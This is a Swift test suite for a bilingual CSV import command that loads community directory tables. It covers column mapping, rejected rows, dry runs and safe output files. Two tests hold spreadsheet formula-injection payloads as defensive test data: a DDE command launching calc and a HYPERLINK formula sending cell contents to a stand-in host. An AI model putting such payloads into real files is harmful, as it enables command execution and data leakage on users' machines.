import Foundation
import Testing

@Suite("Importing tables")
struct TableImportTests {
    private static let sheet = """
        Nom de la structure;Type;Code postal;Ville;Compétences proposées;Besoins;SIRET;Mis à jour le;Pointure
        Atelier d’Exemple;Fablab;02200;Soissons;impression 3D, couture;RGPD;1,23457E+13;19/02/2020;42
        ;Association;02200;Soissons;;;;;
        Ruche d’Exemple;Confrérie;02200;SOISSONS;Télépathie;;;hier;

        """

    @Test("What a table says is told in both languages, and a rehearsal stores nothing")
    func told() async throws {
        let database = try await Scratch.like(.sample)
        let file = try TestFolder.shared.file("annuaire.csv", Self.sheet)
        let before = try await database.trace()
        for tongue in Tongue.allCases {
            let outcome = try await database.run(
                "community", "import", "--from", "auto", file, "--dry-run", in: tongue)
            #expect(outcome.status == 65)
            let expected = [
                "read": "3", "added": "2", "refused": "1", "skills": "4", "skills-unknown": "1", "lost": "4",
                "closed": "0", "likely-duplicates": "0",
            ]
            for (figure, value) in expected {
                #expect(outcome.figures[figure] == value, "\(figure) \(outcome)")
            }
            for part in [
                "name = A (Nom de la structure)", "offers = E (Compétences proposées)", "I (Pointure)",
                "annuaire.csv:3: A (Nom de la structure)", "[bad-text]", "1,23457E+13 [lost-digits]",
                "Télépathie [unknown-skill]", "Confrérie [unknown-kind]", "hier [bad-date]", "[refused-rows]",
            ] { #expect(outcome.err.contains(part), "\(part)\n\(outcome.err)") }
            #expect(
                outcome.err.contains(tongue == .fr ? "en-têtes en ligne 1" : "headers in row 1"),
                "\(outcome.err)")
            #expect(
                outcome.err.hasSuffix(
                    tongue == .fr
                        ? "lignes refusées\u{202F}: 1, listées ci-dessus\u{202F}; les autres seraient acceptées [refused-rows]\n"
                        : "rows refused: 1, listed above; the others would be accepted [refused-rows]\n"),
                "\(outcome.err)")
        }
        #expect(try await database.trace() == before)
    }

    @Test("Rejects are mended and come in, and a kept map gives the same columns")
    func mended() async throws {
        let database = try await Scratch.like(.sample)
        let file = try TestFolder.shared.file("annuaire.csv", Self.sheet)
        let folder = String(file.dropLast("/annuaire.csv".count))
        let first = try await database.run(
            "community", "import", "--from", "csv", file, "--rejects", "\(folder)/refus.csv", "--save-map",
            "\(folder)/map.csv", in: .fr)
        #expect(first.status == 65 && first.figures["added"] == "2", "\(first)")
        #expect(
            first.err.contains(
                "\nà corriger et relire\u{202F}: \(folder)/refus.csv\u{202F}; colonnes gardées\u{202F}: \(folder)/map.csv\n"
            ), "\(first)")
        #expect(
            first.err.hasSuffix(
                "lignes refusées\u{202F}: 1, listées ci-dessus\u{202F}; les autres sont acceptées [refused-rows]\n"
            ),
            "\(first)")
        let map = try String(contentsOfFile: "\(folder)/map.csv", encoding: .utf8)
        #expect(map.hasPrefix("column,header\r\nname,Nom de la structure\r\nkind,Type\r\n"))
        let rejects = try String(contentsOfFile: "\(folder)/refus.csv", encoding: .utf8)
        #expect(rejects.split(whereSeparator: \.isNewline).count == 2 && rejects.contains(";motif du refus"))
        let mended = try TestFolder.shared.file(
            "mended.csv", rejects.replacing("\r\n;", with: "\r\nVoisine;"))
        // The same file again, alone: there are no others to speak of.
        let alone = try TestFolder.shared.file("seule.csv", rejects)
        let none = try await database.run(
            "community", "import", "--from", "csv", alone, "--map", "\(folder)/map.csv", "--rejects",
            "\(folder)/encore.csv", in: .en)
        #expect(none.err.contains("\nto be mended and read again: \(folder)/encore.csv\n"), "\(none)")
        #expect(none.err.hasSuffix("rows refused: 1, listed above [refused-rows]\n"), "\(none)")
        let second = try await database.output(
            "community", "import", "--from", "csv", mended, "--map", "\(folder)/map.csv", "--rejects",
            "\(folder)/rien.csv", "--save-map", "\(folder)/map-2.csv")
        #expect(
            second.err.contains("\ncolumns kept: \(folder)/map-2.csv\n") && !second.err.contains("rien.csv"),
            "\(second)")
        #expect(second.figures["added"] == "1" && second.figures["refused"] == "0", "\(second)")
        let shown = try await database.output("community", "show", "voisine")
        let fields = try #require(shown.fields.first)
        #expect(fields[3] == "unconfirmed" && fields[6] == "02722", "\(shown)")
    }

    @Test(
        "Whole profiles never come in as a table, whatever the file is called, and a table does on standard input"
    )
    func profiles() async throws {
        let database = try await Scratch.like(.entraide)
        try await database.output(
            "community", "register", "un", "--name", "Un", "--kind", "fablab", "--contact",
            "un@exemple.example")
        let before = try await database.trace()
        let profile =
            #"{"community":"un","name":"Autre","kind":"bar","contact":"x@ailleurs.example","consent":{"contact":true}}"#
            + "\nnom;offres\n"
        let file = try TestFolder.shared.file("annuaire.csv", "\u{FEFF}  " + profile)
        for (tongue, words) in [
            (Tongue.fr, "ce fichier contient des profils entiers"), (.en, "this file holds whole profiles"),
        ] {
            for run in [
                try await database.run("community", "import", file, in: tongue),
                try await database.run("community", "import", "-", "--dry-run", in: tongue, input: profile),
            ] {
                #expect(run.status == 65 && run.out.isEmpty, "\(run)")
                #expect(run.err.contains(words) && run.err.contains("--from entraide"), "\(run)")
                #expect(run.err.hasSuffix("[whole-profiles]\n"), "\(run)")
            }
        }
        #expect(try await database.trace() == before)
        #expect(try await database.sql("SELECT name FROM communities") == "Un\n")
        let table = try await database.output(
            "community", "import", "--from", "auto", "-", "--map", "needs=Cherche",
            input: "name,Cherche\nDeux,couture\n")
        #expect(table.figures["added"] == "1", "\(table)")
        #expect(try await database.output("need", "list", "deux").fields.map { $0[1] } == ["couture"])
    }

    @Test("What is no table, and an option that does not apply, are refused with what to do")
    func refused() async throws {
        let database = try await Scratch.like(.entraide)
        let before = try await database.trace()
        let workbook = try TestFolder.shared.file(
            "annuaire.csv", bytes: [0x50, 0x4B, 3, 4, 20, 0] + Array("[Content_Types].xml".utf8))
        let french = try await database.run("community", "import", "--from", "auto", workbook, in: .fr)
        #expect(
            french.status == 65 && french.err.contains("enregistrer en CSV")
                && french.err.contains("[spreadsheet-file]"),
            "\(french)")
        let english = try await database.run("community", "import", "--from", "auto", workbook)
        #expect(english.status == 65 && english.err.contains("save it as CSV"), "\(english)")
        let sheet = try TestFolder.shared.file("a.csv", Self.sheet)
        for (words, option) in [
            (["--encoding", "ebcdic"], "--encoding"), (["--map", "pointure=42"], "--map"),
            (["--source", "É"], "--source"),
        ] {
            let outcome = try await database.home.run(
                ["community", "import", "--from", "csv", sheet] + words, in: .en,
                environment: ["ENTRAIDE_DATABASE": database.conninfo])
            #expect([64, 65].contains(outcome.status) && outcome.err.contains(option), "\(outcome)")
        }
        let outcome = try await database.run(
            "community", "import", "--from", "entraide", sheet, "--rejects", "r.csv")
        #expect(outcome.status == 64 && outcome.err.contains("--rejects"), "\(outcome)")
        // Nothing is written over what is read, not even in a rehearsal.
        let content = try String(contentsOfFile: sheet, encoding: .utf8)
        for option in ["--rejects", "--save-map"] {
            let over = try await database.run("community", "import", sheet, option, sheet, "--dry-run")
            #expect(over.status == 64 && over.err.contains(option), "\(over)")
        }
        #expect(try String(contentsOfFile: sheet, encoding: .utf8) == content)
        let missing = try await database.run("community", "import", "--from", "auto", "/no/such/file.csv")
        #expect(missing.status == 66, "\(missing)")
        let empty = try TestFolder.shared.newName("no-answers")
        try FileManager.default.createDirectory(atPath: empty, withIntermediateDirectories: true)
        let folder = try await database.run("community", "import", "--from", "auto", empty)
        #expect(folder.status == 66, "\(folder)")
        #expect(try await database.trace() == before)
    }

    @Test("No refused row is a formula in the file of rejects, and each comes in again as it was once mended")
    func formulas() async throws {
        let database = try await Scratch.like(.entraide)
        let folder = try TestFolder.shared.newName("rejects")
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        let names = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\"=HYPERLINK(\"\"x\"\";\"\"y\"\")\""]
        let rows = names.enumerated().map { ";\($0.element);-1,5;#\($0.offset)" }
        let file = try TestFolder.shared.file(
            "lieux.csv",
            "nom;offres;latitude;remarque\n" + rows.joined(separator: "\n")
                + "\n;couture;-1,5;'t Hooft\n;a\"b\";=1+1\n")
        let refused = try await database.run("community", "import", file, "--rejects", "\(folder)/r.csv")
        #expect(refused.status == 65 && refused.figures["refused"] == "7", "\(refused)")
        let text = try String(contentsOfFile: "\(folder)/r.csv", encoding: .utf8)
        let kept = text.split(whereSeparator: \.isNewline).dropFirst().map(String.init)
        for (line, name) in zip(kept, names) {
            let wanted = name.hasPrefix("\"") ? "\"'" + name.dropFirst() : "'" + name
            #expect(line.hasPrefix(";\(wanted);-1,5;#"), "\(line)")
        }
        // A row that holds no formula is as it came; of one that cannot be cut, nothing begins as one.
        #expect(kept[5].hasPrefix(";couture;-1,5;'t Hooft;"), "\(kept[5])")
        #expect(kept[6].hasPrefix(";a\"b\";'=1+1;"), "\(kept[6])")
        let beginnings = text.matches(of: #/(?:^|[;\n"])([=@+]|-[^0-9])/#)
        #expect(beginnings.isEmpty, "\(text)")
        // Mended, the cells say what they said.
        let mended = kept.prefix(5).enumerated().map { "Lieu \($0.offset)" + $0.element }
        let header = text.split(whereSeparator: \.isNewline)[0]
        let again = try await database.run(
            "community", "import", "-", input: header + "\n" + mended.joined(separator: "\n") + "\n")
        let direct = try await Scratch.like(.entraide)
        let first = try await direct.run(
            "community", "import", "-",
            input: "nom;offres;latitude;remarque\n"
                + rows.enumerated().map { "Lieu \($0.offset)" + $0.element }.joined(separator: "\n") + "\n")
        #expect(again.figures["added"] == "5" && again.figures == first.figures, "\(again) \(first)")
        let offers =
            "SELECT c.slug, s.label_fr FROM offers AS o JOIN communities AS c ON c.id = o.community_id JOIN skills AS s ON s.id = o.skill_id ORDER BY 1, 2"
        #expect(try await database.sql(offers) == (try await direct.sql(offers)))
        #expect(try await !direct.sql(offers).isEmpty)
    }

    @Test("No title is a formula in the rejects or in a kept map, and both are read back as they were")
    func formulasInTitles() async throws {
        let database = try await Scratch.like(.sample)
        let folder = try TestFolder.shared.newName("rejects")
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        let titles = [
            "nom", "=HYPERLINK(\"http://x.example/?\"&A2)", "@Besoins", "-offres", "+1,5", "'t Hooft",
        ]
        let header = titles.map { $0.contains("\"") ? "\"" + $0.replacing("\"", with: "\"\"") + "\"" : $0 }
            .joined(separator: ";")
        let file = try TestFolder.shared.file("lieux.csv", header + "\n;a;couture;soudure;1;2\n")
        let words = [
            "community", "import", file, "--map", "needs=@Besoins", "--map", "offers='-offres", "--rejects",
            "\(folder)/r.csv", "--save-map", "\(folder)/map.csv",
        ]
        let refused = try await database.home.run(
            words, in: .en, environment: ["ENTRAIDE_DATABASE": database.conninfo])
        #expect(refused.status == 65 && refused.figures["refused"] == "1", "\(refused)")
        #expect(refused.err.contains("needs = C (@Besoins)"), "\(refused)")
        let rejects = try String(contentsOfFile: "\(folder)/r.csv", encoding: .utf8)
        #expect(
            rejects.hasPrefix(
                "nom;\"'=HYPERLINK(\"\"http://x.example/?\"\"&A2)\";'@Besoins;'-offres;+1,5;'t Hooft;"),
            "\(rejects)")
        let map = try String(contentsOfFile: "\(folder)/map.csv", encoding: .utf8)
        #expect(map.contains("\r\nneeds,'@Besoins\r\noffers,'-offres\r\n"), "\(map)")
        for text in [rejects, map] {
            #expect(text.matches(of: #/(?:^|[;,\n]"?)(?:[=@]|[+\-][^0-9])/#).isEmpty, "\(text)")
        }
        let mended = try TestFolder.shared.file(
            "mended.csv", rejects.replacing("\r\n;", with: "\r\nVoisine;"))
        let read = try await database.output("community", "import", mended, "--map", "\(folder)/map.csv")
        #expect(read.figures["added"] == "1" && read.err.contains("needs = C (@Besoins)"), "\(read)")
        #expect(try await database.output("need", "list", "voisine").fields.map { $0[1] } == ["couture"])
    }

    @Test("A table of too many columns is refused in both languages")
    func tooWide() async throws {
        let database = try await Scratch.like(.entraide)
        let wide = "nom" + (1...1000).map { ";c\($0)" }.joined() + "\nUn\n"
        for (tongue, words) in [
            (Tongue.fr, "plus de 1000 colonnes\u{202F};"), (.en, "more than 1000 columns;"),
        ] {
            let run = try await database.run("community", "import", "-", in: tongue, input: wide)
            #expect(run.status == 65 && run.err.contains(words), "\(run)")
            #expect(run.err.contains("[too-many-columns]"), "\(run)")
        }
    }

    @Test("Refused rows are for their owner to read, and go where the name says, not where a link leads")
    func rejectsLead() async throws {
        let database = try await Scratch.like(.entraide)
        let folder = try TestFolder.shared.newName("rejects")
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        let table = "nom,offres\n,couture\n"
        let plain = try await database.run(
            "community", "import", "-", "--rejects", "\(folder)/r.csv", input: table)
        #expect(plain.status == 65, "\(plain)")
        let mode = try FileManager.default.attributesOfItem(atPath: "\(folder)/r.csv")[.posixPermissions]
        #expect(mode as? Int == 0o600)
        let precious = try TestFolder.shared.file("precious.txt", "kept")
        try FileManager.default.createSymbolicLink(
            atPath: "\(folder)/link.csv", withDestinationPath: precious)
        let led = try await database.run(
            "community", "import", "-", "--rejects", "\(folder)/link.csv", input: table)
        #expect(led.status == 70 && led.err.contains("[output-not-written]"), "\(led)")
        #expect(try String(contentsOfFile: precious, encoding: .utf8) == "kept")
    }

    @Test("Cells are folded to one line, and words in capitals are proposed as they are said")
    func oneLine() async throws {
        let database = try await Scratch.like(.sample)
        let table = """
            Nom;PresentATION;Offres;Type
            "Le  Fanal

               du PORT";"Un LIEU
            ouvert.

            Venez !";"Vannerie
            de  JONC; VANNERIE EN OSIER; CAO PAO";fablab

            """
        let read = try await database.output("community", "import", "--from", "csv", "-", input: table)
        #expect(read.figures["added"] == "1", "\(read)")
        #expect(read.err.contains("Le Fanal du PORT [line-break]") && !read.err.contains("\\u{"), "\(read)")
        #expect(
            try await database.output("community", "show", "le-fanal-du-port").fields[0][1]
                == "Le Fanal du PORT")
        let proposals = try await database.output("skill", "proposals").fields.map { $0[1] }
        #expect(Set(proposals) == ["CAO PAO", "Vannerie", "de JONC", "Vannerie en osier"], "\(proposals)")
    }
}
